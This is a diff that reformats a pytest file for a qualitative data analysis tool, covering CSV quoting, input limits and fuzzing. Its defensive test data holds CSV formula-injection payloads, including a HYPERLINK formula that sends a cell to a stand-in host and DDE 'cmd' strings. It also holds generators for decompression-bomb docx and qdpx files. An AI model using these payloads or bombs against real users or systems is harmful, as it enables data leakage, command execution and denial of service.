@@ -14,15 +14,20 @@ import pytest
 from qda.project import Project
 from tests.helpers.reliability import dump
 
-HANG_GUARD = 120   # seconds; the fixed inputs finish in a few
+HANG_GUARD = 120  # seconds; the fixed inputs finish in a few
 
 
 def qda(*args, cwd=None, env=None):
     """The real console entry point in a subprocess, killed after HANG_GUARD seconds."""
     exe = Path(sys.executable).with_name("qda")
-    return subprocess.run([str(exe), *map(str, args)], capture_output=True, text=True,
-                          cwd=cwd, timeout=HANG_GUARD,
-                          env={**os.environ, "PYTHONWARNINGS": "ignore", **(env or {})})
+    return subprocess.run(
+        [str(exe), *map(str, args)],
+        capture_output=True,
+        text=True,
+        cwd=cwd,
+        timeout=HANG_GUARD,
+        env={**os.environ, "PYTHONWARNINGS": "ignore", **(env or {})},
+    )
 
 
 def run(*args):
@@ -30,6 +35,7 @@ def run(*args):
     from click.testing import CliRunner
 
     from qda.cli import cli
+
     result = CliRunner().invoke(cli, [str(a) for a in args])
     result.returncode = result.exit_code
     return result
@@ -58,8 +64,12 @@ def small(tmp_path, transcripts) -> Path:
 def test_a_ragged_participants_row_is_refused_wherever_it_is(tmp_path, small, where):
     """An unquoted comma in `Kent, UK` gives a row one field too many. As the first data
     row, pandas made the first column an index and shifted every column silently."""
-    rows = ["participant,document,speaker,location",
-            "P1,int-a,Dawn,Kent", "P2,int-b,Respondent,Surrey", "P3,int-b,Other,Sussex"]
+    rows = [
+        "participant,document,speaker,location",
+        "P1,int-a,Dawn,Kent",
+        "P2,int-b,Respondent,Surrey",
+        "P3,int-b,Other,Sussex",
+    ]
     bad = 1 if where == "first" else 3
     rows[bad] = rows[bad].rsplit(",", 1)[0] + ",Kent, UK"
     sheet = tmp_path / "participants.csv"
@@ -73,18 +83,26 @@ def test_a_ragged_participants_row_is_refused_wherever_it_is(tmp_path, small, wh
 
 def test_a_quoted_comma_and_a_short_row_are_read(tmp_path, small):
     from qda.ingest import read_participants
+
     sheet = tmp_path / "participants.csv"
-    sheet.write_text('participant,document,speaker,location\n"P1",int-a,Dawn,"Kent, UK"\n'
-                     "P2,int-b,Respondent\n", encoding="utf-8")
+    sheet.write_text(
+        'participant,document,speaker,location\n"P1",int-a,Dawn,"Kent, UK"\nP2,int-b,Respondent\n',
+        encoding="utf-8",
+    )
     info = read_participants(sheet).participants()
     assert info["P1"]["attributes"]["location"] == "Kent, UK"
     assert "location" not in info["P2"]["attributes"] or not info["P2"]["attributes"]["location"]
 
 
 # ------------------------------------------------------------ 5. formulas in CSV cells
-_FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0",
-             "-5 degrees outside, so the home visit was cancelled.", "@SUM(1+1)*cmd|' /C calc'!A0",
-             "'=already quoted by someone", "'tis the season, she said."]
+_FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-5 degrees outside, so the home visit was cancelled.",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted by someone",
+    "'tis the season, she said.",
+]
 _TRIGGERS = tuple("=+-@\t\r")
 
 
@@ -93,12 +111,15 @@ def formulas(tmp_path) -> Path:
     """A project whose transcript turns, participant ids and attributes, and a coder's
     codings all start like spreadsheet formulas (or like the quote that protects them)."""
     from tests.helpers.paths import CODEBOOK
+
     folder = tmp_path / "hostile"
     folder.mkdir()
-    (folder / "int-h.txt").write_text("".join(f"Dawn: {t}\n\nInterviewer: And?\n\n"
-                                              for t in _FORMULAS), encoding="utf-8")
+    (folder / "int-h.txt").write_text(
+        "".join(f"Dawn: {t}\n\nInterviewer: And?\n\n" for t in _FORMULAS), encoding="utf-8"
+    )
     (folder / "participants.csv").write_text(
-        'participant,document,speaker,role\n"=1+1",int-h,Dawn,"-officer"\n', encoding="utf-8")
+        'participant,document,speaker,role\n"=1+1",int-h,Dawn,"-officer"\n', encoding="utf-8"
+    )
     path = tmp_path / "formulas.qda"
     with Project.create(path) as project:
         project.ingest([folder / "int-h.txt"], participants=folder / "participants.csv")
@@ -114,14 +135,19 @@ def formulas(tmp_path) -> Path:
 
 def _cells(path: Path) -> list[str]:
     import csv
+
     with open(path, encoding="utf-8", newline="") as fh:
         return [cell for row in csv.reader(fh) for cell in row]
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, formulas):
-    outs = {"segments": ["segments"], "codings": ["codings", "--coder", "ann"],
-            "matrix": ["matrix", "--rows", "participant"], "framework": ["framework"],
-            "crosstab": ["crosstab", "role"]}
+    outs = {
+        "segments": ["segments"],
+        "codings": ["codings", "--coder", "ann"],
+        "matrix": ["matrix", "--rows", "participant"],
+        "framework": ["framework"],
+        "crosstab": ["crosstab", "role"],
+    }
     for name, args in outs.items():
         out = tmp_path / f"{name}.csv"
         result = run(*args, "--out", out, "--project", formulas)
@@ -144,18 +170,22 @@ def test_qda_reads_its_own_quoted_codings_csv_back_exactly(tmp_path, formulas):
     before = dump(formulas)
     again = run("code", "import", out, "--coder", "ann", "--project", formulas)
     assert again.returncode == 0, again.stderr
-    assert "Warning" not in again.stderr, again.stderr      # no text said to differ
-    assert {k: v for k, v in dump(formulas).items() if k != "history"} == \
-        {k: v for k, v in before.items() if k != "history"}
+    assert "Warning" not in again.stderr, again.stderr  # no text said to differ
+    assert {k: v for k, v in dump(formulas).items() if k != "history"} == {
+        k: v for k, v in before.items() if k != "history"
+    }
     from qda.coding.longcsv import read_long_csv
+
     texts = {r.text for r in read_long_csv(out)}
     assert set(_FORMULAS) <= {t for t in texts if t}
 
 
-@pytest.mark.parametrize("text", [*_FORMULAS, "''+y", "'", "", "plain", "\tindented",
-                                  "\rreturn", "-", "'-", "a=b"])
+@pytest.mark.parametrize(
+    "text", [*_FORMULAS, "''+y", "'", "", "plain", "\tindented", "\rreturn", "-", "'-", "a=b"]
+)
 def test_the_quote_rule_is_undone_exactly(text):
     from qda.csvcells import protect_cell, unprotect_cell
+
     written = protect_cell(text)
     assert not written.startswith(_TRIGGERS)
     assert unprotect_cell(written) == text
@@ -166,9 +196,14 @@ def test_a_pseudonymisation_key_reads_back_through_the_quote(tmp_path):
 
     from qda.anonymise.key import read_key
     from qda.csvcells import write_csv
+
     key = tmp_path / "key.csv"
-    write_csv(pd.DataFrame({"original": ["-Kent-", "Dawn"], "replacement": ["=[town]", "[S01]"],
-                            "kind": ["place", "person"]}), key)
+    write_csv(
+        pd.DataFrame(
+            {"original": ["-Kent-", "Dawn"], "replacement": ["=[town]", "[S01]"], "kind": ["place", "person"]}
+        ),
+        key,
+    )
     assert "'=[town]" in _cells(key)
     entries = {(e.original, e.replacement) for e in read_key(key).entries}
     assert entries == {("-Kent-", "=[town]"), ("Dawn", "[S01]")}
@@ -181,20 +216,23 @@ def read_only_mount(tmp_path, small):
     a read-only mount stops everyone). Skipped where mounting is not allowed."""
     import shutil
     import subprocess as sp
+
     src, mnt = tmp_path / "src", tmp_path / "mnt"
     src.mkdir(), mnt.mkdir()
     shutil.copy(small, src / "p.qda")
     with Project.open(src / "p.qda") as project:
         from tests.helpers.paths import CODEBOOK
+
         project.load_codebook(CODEBOOK)
         project.code_rules()
-    assert not list(src.glob("p.qda-*"))          # no -wal/-shm left beside it
-    if shutil.which("mount") is None or sp.run(
-            ["mount", "--bind", str(src), str(mnt)], capture_output=True).returncode != 0:
+    assert not list(src.glob("p.qda-*"))  # no -wal/-shm left beside it
+    if (
+        shutil.which("mount") is None
+        or sp.run(["mount", "--bind", str(src), str(mnt)], capture_output=True).returncode != 0
+    ):
         pytest.skip("bind mounts are not allowed here")
     try:
-        if sp.run(["mount", "-o", "remount,ro,bind", str(mnt)], capture_output=True
-                  ).returncode != 0:
+        if sp.run(["mount", "-o", "remount,ro,bind", str(mnt)], capture_output=True).returncode != 0:
             pytest.skip("read-only remounts are not allowed here")
         yield mnt / "p.qda", src / "p.qda"
     finally:
@@ -203,7 +241,7 @@ def read_only_mount(tmp_path, small):
 
 def test_reading_commands_work_on_a_read_only_mount(read_only_mount):
     path, original = read_only_mount
-    before = original.read_bytes()    # (a dump would leave -wal/-shm files beside it)
+    before = original.read_bytes()  # (a dump would leave -wal/-shm files beside it)
     for args in (["codebook", "show"], ["codings"], ["matrix"]):
         result = run(*args, "--project", path)
         assert result.returncode == 0, (args, result.stderr)
@@ -224,8 +262,8 @@ def small_members_qdpx(path: Path, *, members: int = 6, member_bytes: int = 900 
     import zipfile
 
     from tests.helpers.refi import G, project_xml, text_source
-    sources = "".join(text_source(G(10 + i), f"s{i}", [], f"internal://s{i}.txt")
-                      for i in range(members))
+
+    sources = "".join(text_source(G(10 + i), f"s{i}", [], f"internal://s{i}.txt") for i in range(members))
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("project.qde", project_xml("Tool", sources))
         for i in range(members):
@@ -246,11 +284,14 @@ def test_the_document_limit_applies_to_refi_sources(tmp_path, small, monkeypatch
     import qda.refi.reader as reader
     from qda.errors import InputError
     from tests.helpers.refi import G, make_qdpx, project_xml, text_source
+
     words = "Dawn: the home visit helped the family a lot.\n" * 50
-    path = make_qdpx(tmp_path / "long.qdpx", project_xml(
-        "Tool", text_source(G(10), "long", [], "internal://long.txt")),
-        {"sources/long.txt": words})
-    monkeypatch.setattr(reader, "MAX_DOCUMENT_BYTES", 1000)   # the limit, made small
+    path = make_qdpx(
+        tmp_path / "long.qdpx",
+        project_xml("Tool", text_source(G(10), "long", [], "internal://long.txt")),
+        {"sources/long.txt": words},
+    )
+    monkeypatch.setattr(reader, "MAX_DOCUMENT_BYTES", 1000)  # the limit, made small
     before = dump(small)
     with Project.open(small) as project, pytest.raises(InputError) as info:
         project.import_qdpx(path)
@@ -260,16 +301,21 @@ def test_the_document_limit_applies_to_refi_sources(tmp_path, small, monkeypatch
 
 def flat_codes_qdc(path: Path, count: int) -> Path:
     """A .qdc of ``count`` flat codes (the generator: 1,000,000 of them took 2.3 GB)."""
-    codes = "".join(f'<Code guid="{i:08x}-0000-4000-8000-000000000000" name="c{i}" '
-                    'isCodable="true"/>' for i in range(count))
-    path.write_text('<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:'
-                    f'codebook:1.0" origin="Tool"><Codes>{codes}</Codes></CodeBook>',
-                    encoding="utf-8")
+    codes = "".join(
+        f'<Code guid="{i:08x}-0000-4000-8000-000000000000" name="c{i}" isCodable="true"/>'
+        for i in range(count)
+    )
+    path.write_text(
+        '<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:'
+        f'codebook:1.0" origin="Tool"><Codes>{codes}</Codes></CodeBook>',
+        encoding="utf-8",
+    )
     return path
 
 
 def test_a_codebook_over_the_code_limit_is_refused(tmp_path, small):
     from qda.limits import MAX_CODES
+
     qdc = flat_codes_qdc(tmp_path / "huge.qdc", MAX_CODES + 1)
     before = dump(small)
     error = one_error(qda("codebook", "load", qdc, "--project", small))
@@ -283,6 +329,7 @@ def test_the_code_limit_holds_for_yaml_and_excel(tmp_path, monkeypatch, suffix):
     from qda.codebook import load_codebook, save_codebook
     from qda.errors import CodebookError
     from tests.helpers.paths import CODEBOOK
+
     path = tmp_path / f"cb{suffix}"
     save_codebook(load_codebook(CODEBOOK), path)
     monkeypatch.setattr(qda.limits, "MAX_CODES", 10)
@@ -294,11 +341,17 @@ def inflating_docx(path: Path, inflated: int) -> Path:
     """A .docx whose word/document.xml inflates to ``inflated`` bytes of empty paragraphs
     (streamed, so the test never holds it): the generator for issue 22's 1 MB → 1 GB file."""
     import zipfile
-    head = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
-            b'openxmlformats.org/wordprocessingml/2006/main"><w:body>')
+
+    head = (
+        b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
+        b'openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+    )
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.'
-                   'openxmlformats.org/package/2006/content-types"/>')
+        z.writestr(
+            "[Content_Types].xml",
+            '<?xml version="1.0"?><Types xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/content-types"/>',
+        )
         with z.open("word/document.xml", "w", force_zip64=True) as fh:
             fh.write(head)
             chunk, written = b"<w:p/>" * (1024 * 1024 // 6), len(head)
@@ -311,8 +364,9 @@ def inflating_docx(path: Path, inflated: int) -> Path:
 
 def test_a_docx_that_inflates_to_hundreds_of_megabytes_is_refused_early(tmp_path, small):
     from qda.limits import MAX_INFLATED_MEMBER_BYTES
-    docx = inflating_docx(tmp_path / "inflates.docx", MAX_INFLATED_MEMBER_BYTES + 2 ** 20)
-    assert docx.stat().st_size < 2 * 1024 ** 2
+
+    docx = inflating_docx(tmp_path / "inflates.docx", MAX_INFLATED_MEMBER_BYTES + 2**20)
+    assert docx.stat().st_size < 2 * 1024**2
     before = dump(small)
     error = one_error(qda("ingest", docx, "--project", small))
     assert "word/document.xml" in error and "damaged" not in error
@@ -346,13 +400,16 @@ def test_backups_holding_original_words_are_named_checked_and_wiped(tmp_path, sm
 from hypothesis import HealthCheck, given, settings  # noqa: E402
 from hypothesis import strategies as st  # noqa: E402
 
-FUZZ = settings(max_examples=int(os.environ.get("QDA_FUZZ_EXAMPLES", "25")) // 5 or 1,
-                deadline=None, database=None, suppress_health_check=list(HealthCheck))
+FUZZ = settings(
+    max_examples=int(os.environ.get("QDA_FUZZ_EXAMPLES", "25")) // 5 or 1,
+    deadline=None,
+    database=None,
+    suppress_health_check=list(HealthCheck),
+)
 
 
 @FUZZ
-@given(members=st.integers(1, 8), size=st.integers(10_000, 1_000_000),
-       varied=st.booleans())
+@given(members=st.integers(1, 8), size=st.integers(10_000, 1_000_000), varied=st.booleans())
 def test_fuzz_qdpx_members_never_amplify_past_the_ratio(tmp_path_factory, members, size, varied):
     """Generated .qdpx files of many packed members: either an InputError, or text no
     larger than MAX_ZIP_RATIO times the file (at least 1 MB)."""
@@ -363,15 +420,14 @@ def test_fuzz_qdpx_members_never_amplify_past_the_ratio(tmp_path_factory, member
     from qda.limits import MAX_ZIP_RATIO
     from qda.refi.reader import read_qdpx
     from tests.helpers.refi import G, project_xml, text_source
+
     path = tmp_path_factory.mktemp("fuzz") / "f.qdpx"
     rng = random.Random(size)
-    sources = "".join(text_source(G(10 + i), f"s{i}", [], f"internal://s{i}.txt")
-                      for i in range(members))
+    sources = "".join(text_source(G(10 + i), f"s{i}", [], f"internal://s{i}.txt") for i in range(members))
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("project.qde", project_xml("Tool", sources))
         for i in range(members):
-            body = (" ".join(f"w{rng.randrange(10 ** 6)}" for _ in range(size // 8))
-                    if varied else "a" * size)
+            body = " ".join(f"w{rng.randrange(10**6)}" for _ in range(size // 8)) if varied else "a" * size
             z.writestr(f"sources/s{i}.txt", body)
     try:
         project, _ = read_qdpx(path)
@@ -379,7 +435,7 @@ def test_fuzz_qdpx_members_never_amplify_past_the_ratio(tmp_path_factory, member
         assert "MAX_ZIP_RATIO" in str(exc) or "limit" in str(exc)
         return
     stored = sum(len(d.text) for d in project.documents)
-    assert stored <= max(1024 ** 2, MAX_ZIP_RATIO * path.stat().st_size)
+    assert stored <= max(1024**2, MAX_ZIP_RATIO * path.stat().st_size)
 
 
 @FUZZ
@@ -387,6 +443,7 @@ def test_fuzz_qdpx_members_never_amplify_past_the_ratio(tmp_path_factory, member
 def test_fuzz_docx_parts_inflating_are_refused_or_read(tmp_path_factory, inflated):
     from qda.errors import QdaError
     from qda.ingest import read_document
+
     path = inflating_docx(tmp_path_factory.mktemp("fuzz") / "f.docx", inflated)
     try:
         read_document(path)
